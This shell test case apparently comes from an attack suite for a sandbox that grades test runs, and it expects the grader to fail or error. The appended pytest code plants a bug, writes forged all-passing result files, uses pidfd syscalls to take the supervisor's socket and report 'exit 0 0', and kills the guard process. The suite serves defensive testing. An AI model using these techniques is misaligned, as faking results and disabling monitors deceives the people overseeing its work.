# A test writes the task's artifacts itself, takes from the processes above it the descriptor by which the sandbox reports how the adapter ended (pidfd_getfd), writes there that all is well, and ends that process before it can report itself.
# rights: none
# expect: fail|error
. "$ATTACKS/common.sh"
make_project
printf 'from shop import total\n\n\ndef test_total_of_one():\n    assert total([1]) == 1\n' > tests/test_prices.py
if [ -z "${HONEST:-}" ]; then
  sed -i 's#price / 2#price / 3#' shop/__init__.py
  cat >> tests/test_prices.py <<'END'

def test_last():
    import ctypes
    import json
    import os
    import signal
    from pathlib import Path

    adapter = os.getppid()
    for folder in Path.home().parents[1].glob("code.tests/*"):
        (folder / "tests.json").write_text(json.dumps({"tool": "pytest", "tools": [{"tool": "pytest", "passed": 4, "failed": 0, "skipped": 0, "total": 4, "duration": 1}], "passed": 4, "failed": 0, "skipped": 0, "total": 4, "duration": 1, "failures": [], "files": [], "excluded": [], "unexamined": []}))
        (folder / "tests.meta.json").write_text(json.dumps({"expected": 4, "examined": 4, "skipped": 0, "commands": []}))
    libc = ctypes.CDLL(None, use_errno=True)
    guard = int(Path(f"/proc/{adapter}/stat").read_text().rpartition(")")[2].split()[1])
    for number in range(3):
        taken = libc.syscall(438, libc.syscall(434, guard, 0), number, 0)

        if taken >= 0:

            if "socket" in os.readlink(f"/proc/self/fd/{taken}"):
                os.write(taken, b"exit 0 0\n")
    os.kill(guard, signal.SIGKILL)
END
fi
commit -m 'Test more'
judge
